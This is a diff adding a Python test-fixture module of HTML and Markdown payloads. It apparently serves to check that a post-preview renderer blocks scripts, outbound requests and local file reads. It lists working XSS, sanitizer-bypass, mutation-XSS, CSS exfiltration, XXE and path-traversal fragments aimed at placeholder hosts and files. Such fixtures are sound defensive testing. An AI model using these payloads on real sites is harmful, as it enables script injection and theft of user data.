@@ -1,0 +1,181 @@
+"""Fragments of posts that try to run, to send, to read or to leave.
+
+``URL`` stands for an address of a server that must hear nothing, ``JS`` for a script that marks
+the page and calls that server, ``SECRET`` for a text file outside the project, ``PICTURE`` for an
+image outside it.
+"""
+
+from __future__ import annotations
+
+SCRIPTS = {
+    "script": "<script>JS</script>",
+    "script-src": '<script src="URL.js"></script>',
+    "script-upper": "<SCRIPT>JS</SCRIPT>",
+    "script-broken": "<script/x>JS</script>",
+    "script-nested": "<scr<script>ipt>JS</scr</script>ipt>",
+    "script-unclosed": '<script src="URL.js">',
+    "script-module": '<script type="module">import "URL.js"; JS</script>',
+    "script-comment": "<!--><script>JS</script>-->",
+    "script-cdata": "<![CDATA[<script>JS</script>]]>",
+    "script-null": "<scr\0ipt>JS</scr\0ipt>",
+    "script-entity": "&lt;script&gt;JS&lt;/script&gt;<p>&#60;script&#62;JS</p>",
+    "script-in-title": "<title><script>JS</script></title>",
+    "script-in-textarea": "<textarea><script>JS</script></textarea><script>JS</script>",
+    "script-in-noscript": '<noscript><p title="</noscript><script>JS</script>"></noscript>',
+    "importmap": '<script type="importmap">{"imports":{"a":"URL.js"}}</script>',
+    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["URL"]}]}</script>',
+    "template": "<template shadowrootmode=open><script>JS</script></template>",
+}
+
+HANDLERS = {
+    "img-onerror": '<img src="nothing.png" onerror="JS">',
+    "img-onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="JS">',
+    "svg-onload": '<svg onload="JS"><rect width="9" height="9"/></svg>',
+    "body-onload": '<body onload="JS">',
+    "details-ontoggle": '<details open ontoggle="JS"><summary>x</summary>y</details>',
+    "input-autofocus": '<input autofocus onfocus="JS">',
+    "video-onerror": '<video><source onerror="JS" src="nothing.webm"></video>',
+    "marquee": '<marquee onstart="JS">x</marquee>',
+    "animation": '<p style="animation:a 1s" onanimationstart="JS">x</p>',
+    "pointer": '<p onpointerenter="JS" onmouseover="JS" onclick="JS">x</p>',
+    "handler-slash": '<img/src="nothing.png"/onerror="JS">',
+    "handler-newline": '<img src="nothing.png"\nonerror\n=\n"JS">',
+    "handler-backtick": "<img src=`nothing.png` onerror=`JS`>",
+    "custom-element": '<x-y onclick="JS" style="display:block">x</x-y>',
+    "contenteditable": '<p contenteditable onbeforeinput="JS" autofocus>x</p>',
+}
+
+ADDRESSES = {
+    "javascript-link": '<a href="javascript:JS">x</a>',
+    "javascript-markdown": "[x](javascript:JS)",
+    "javascript-case": '<a href="  JaVaScRiPt:JS">x</a>',
+    "javascript-tab": '<a href="java&#9;script:JS">x</a>',
+    "javascript-entity": '<a href="&#106;avascript:JS">x</a>',
+    "vbscript": '<a href="vbscript:JS">x</a>',
+    "data-link": '<a href="data:text/html,<script>JS</script>">x</a>',
+    "data-markdown": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "blob-link": '<a href="blob:null/1">x</a>',
+    "file-link": '<a href="file://SECRET">x</a>',
+    "view-source": '<a href="view-source:file://SECRET">x</a>',
+    "chrome": '<a href="chrome://version">x</a>',
+    "target-blank": '<a href="URL" target="_blank">x</a>',
+    "link-ping": '<a href="#here" ping="URL">x</a>',
+    "link-download": '<a href="SECRET" download="x">x</a>',
+    "form": '<form action="URL"><input name="a" value="b"><button>x</button></form>',
+    "formaction": '<button formaction="URL" form="f">x</button><form id="f"></form>',
+    "form-javascript": '<form action="javascript:JS"><input type="submit"></form>',
+    "area": '<img usemap="#m" src="nothing.png"><map name="m"><area href="javascript:JS"></map>',
+    "base": '<base href="URL/"><img src="a.png">',
+    "base-javascript": '<base href="javascript:JS//"><a href="#x">x</a>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=URL">',
+    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,x">',
+    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
+    "meta-cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
+}
+
+LOADS = {
+    "image": "![x](URL.png)",
+    "image-html": '<img src="URL.png">',
+    "image-no-scheme": '<img src="//127.0.0.1:PORT/NAME.png">',
+    "image-backslash": '<img src="\\\\127.0.0.1:PORT/NAME.png">',
+    "image-tab": '<img src="ht\ttp://127.0.0.1:PORT/NAME.png">',
+    "srcset": '<img src="nothing.png" srcset="URL.png 1x, URL2.png 2x">',
+    "picture": '<picture><source srcset="URL.png"><img src="nothing.png"></picture>',
+    "lazy": '<img loading="lazy" src="URL.png">',
+    "video": '<video src="URL.webm" poster="URL.png" autoplay></video>',
+    "audio": '<audio src="URL.ogg" autoplay preload="auto"></audio>',
+    "track": '<video src="a.webm"><track default src="URL.vtt"></video>',
+    "preconnect": '<link rel="preconnect" href="URL">',
+    "dns-prefetch": '<link rel="dns-prefetch" href="URL">',
+    "prefetch": '<link rel="prefetch" href="URL"><link rel="prerender" href="URL">',
+    "preload": '<link rel="preload" as="image" href="URL.png">',
+    "stylesheet": '<link rel="stylesheet" href="URL.css">',
+    "icon": '<link rel="icon" href="URL.png"><link rel="manifest" href="URL.json">',
+    "html-import": '<link rel="import" href="URL">',
+    "iframe": '<iframe src="URL"></iframe>',
+    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
+    "iframe-javascript": '<iframe src="javascript:JS"></iframe>',
+    "frameset": '<frameset><frame src="URL"></frameset>',
+    "object": '<object data="URL.swf"><param name="a"></object>',
+    "embed": '<embed src="URL.pdf">',
+    "applet": '<applet code="a" codebase="URL"></applet>',
+    "input-image": '<input type="image" src="URL.png">',
+    "td-background": '<table background="URL.png"><tr><td background="URL.png">x</table>',
+    "body-background": '<body background="URL.png">',
+    "portal": '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
+}
+
+STYLES = {
+    "style-import": "<style>@import 'URL.css';</style>",
+    "style-font": "<style>@font-face{font-family:a;src:url(URL.woff)}*{font-family:a}</style>",
+    "style-exfiltration": "<style>p[title^=a]{background:url(URL.png)}</style><p title=a>x</p>",
+    "style-attribute": '<p style="background:url(URL.png)">x</p>',
+    "style-image-set": "<p style=\"background-image:image-set('URL.png' 1x)\">x</p>",
+    "style-list": '<ul style="list-style:url(URL.png)"><li>x</ul>',
+    "style-cursor": '<p style="cursor:url(URL.png),auto">x</p>',
+    "style-content": '<p style="content:url(URL.png)">x</p>',
+    "style-escape": '<p style="background:u\\72l(URL.png)">x</p>',
+    "style-cover": '<p style="position:fixed;inset:0;z-index:9999">All of this is ours.</p>',
+    "style-expression": '<p style="width:expression(JS);behavior:url(URL);-moz-binding:url(URL)">',
+    "style-svg": "<svg><style>@import 'URL.css'; *{fill:url(URL.svg#a)}</style></svg>",
+}
+
+FOREIGN = {
+    "svg-script": "<svg><script>JS</script></svg>",
+    "svg-script-href": '<svg><script href="URL.js"/><script xlink:href="URL.js"/></svg>',
+    "svg-image": '<svg><image href="URL.png"/><image xlink:href="URL.png"/></svg>',
+    "svg-use": '<svg><use href="URL.svg#a"/></svg>',
+    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id='a' onload='JS'/>#a\"/></svg>",
+    "svg-foreign": '<svg><foreignObject><iframe src="URL"></iframe></foreignObject></svg>',
+    "svg-animate": '<svg><a><animate attributeName="href" to="javascript:JS"/></a></svg>',
+    "svg-set": '<svg><set attributeName="onload" to="JS"/></svg>',
+    "svg-filter": '<svg><filter id="f"><feImage href="URL.png"/></filter></svg>',
+    "svg-entity": "<svg><desc><![CDATA[</desc><script>JS</script>]]></svg>",
+    "svg-data-image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
+    "onload='JS'><image href='URL.png'/><script>JS</script></svg>\">",
+    "math-link": '<math><maction actiontype="statusline#x" href="javascript:JS">x</maction></math>',
+    "math-mutation": "<math><mtext><table><mglyph><style>"
+    '<img title="</style><img src=x onerror=JS>">',
+    "math-annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror="JS">'
+    "</annotation-xml></math>",
+    "mutation-noscript": '<noscript><style></noscript><img src="nothing.png" onerror="JS">',
+    "mutation-svg-style": '<svg></p><style><a id="</style><img src=nothing.png onerror=JS>">',
+    "mutation-select": "<select><style></select><img src=nothing.png onerror=JS></style></select>",
+    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
+    "mutation-comment": "<math><style><!--</style><img title='--><img src=x onerror=JS>'>",
+    "plaintext": "<plaintext><script>JS</script>",
+    "xmp": "<xmp></xmp><script>JS</script>",
+    "processing": "<?xml-stylesheet href='URL.css'?><?php echo 1 ?>",
+    "doctype": '<!DOCTYPE html [<!ENTITY a SYSTEM "file://SECRET">]><p>&a;</p>',
+    "clobbering": '<img name="createElement"><form name="body"><input name="append"></form>'
+    '<img name="getElementById"><a id="byline"></a><img name="querySelectorAll">',
+    "own-classes": '<div class="byline-post byline-block"><h1 class="byline-title">x</h1></div>',
+    "markdown-title": '![x](nothing.png "x\\" onerror=\\"JS")',
+    "markdown-alt": '![" onerror="JS](nothing.png)',
+    "markdown-code": "`<script>JS</script>`\n\n    <script>JS</script>\n",
+    "markdown-reference": '[x]\n\n[x]: javascript:JS "onclick=JS"\n',
+}
+
+READS = {
+    "file-image": '<img src="file://PICTURE">',
+    "file-text": '<iframe src="file://SECRET"></iframe><object data="file://SECRET"></object>',
+    "absolute-image": "![x](PICTURE)",
+    "dots": "![x](../outside/picture.png)",
+    "dots-encoded": "![x](%2e%2e/outside/picture.png)",
+    "dots-twice-encoded": "![x](%252e%252e/outside/picture.png)",
+    "dots-backslash": "![x](..\\outside\\picture.png)",
+    "symlink": "![x](link.png)",
+    "symlink-folder": "![x](folder/picture.png)",
+    "text-as-image": "![x](../outside/secret.txt)",
+    "text-link": '<img src="link.txt">',
+    "own-scheme": '<img src="byline-preview://page/file?post=1&url=../outside/picture.png">',
+    "own-scheme-page": '<iframe src="byline-preview://page/"></iframe>',
+    "own-scheme-style": '<link rel="stylesheet" href="byline-preview://page/style/user.css">',
+    "own-scheme-css": '<p style="background:url(byline-preview://page/file?post=1&url=link.png)">',
+    "filesystem": '<img src="filesystem:file:///temporary/x"><img src="jar:file://PICTURE!/">',
+    "device": "![x](/dev/zero)",
+    "pipe": "![x](pipe.png)",
+    "post-itself": '<img src="post.md"><object data="post.md"></object>',
+}
+
+ALL = SCRIPTS | HANDLERS | ADDRESSES | LOADS | STYLES | FOREIGN | READS
